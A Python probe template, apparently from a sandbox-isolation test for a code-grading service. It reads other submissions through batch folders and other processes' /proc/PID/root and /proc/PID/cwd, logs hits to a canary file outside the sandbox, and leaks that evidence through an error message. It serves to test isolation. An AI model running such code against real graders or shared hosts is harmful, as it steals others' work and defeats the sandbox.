"""Reads and copies the other submissions of a batch: by their paths, by the batch's work
folders, and through other processes' /proc/PID/root and /proc/PID/cwd."""
import glob, os

CANARY = "@CANARY@"
EVIDENCE = []


def evidence(text):
    """What succeeded: in the report (the error below), and in a file outside the sandbox."""
    EVIDENCE.append(text)
    try:
        with open(CANARY, "a") as f:
            f.write(text)
    except OSError:
        pass


VICTIM = "@VICTIM@"
paths = [VICTIM] + glob.glob("/tmp/netkata-batch-*/*/*/*.py") + glob.glob("/tmp/netkata-*/tree/*/*.py")
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        paths += glob.glob(f"/proc/{pid}/root/tmp/netkata-batch-*/*/*/*.py") + glob.glob(f"/proc/{pid}/cwd/*.py")
for path in paths:
    try:
        with open(path) as f:
            text = f.read()
        if "VICTIM'S OWN " + "WORK" in text:  # (spelt so that this file does not match itself)
            evidence(f"read {path}\n")
            print("COPIED:", path)
    except OSError:
        pass


def is_valid_url(url):
    if EVIDENCE:
        raise ValueError("EVIDENCE: " + " | ".join(EVIDENCE)[:1000])
    raise ValueError("this program implements no rule")
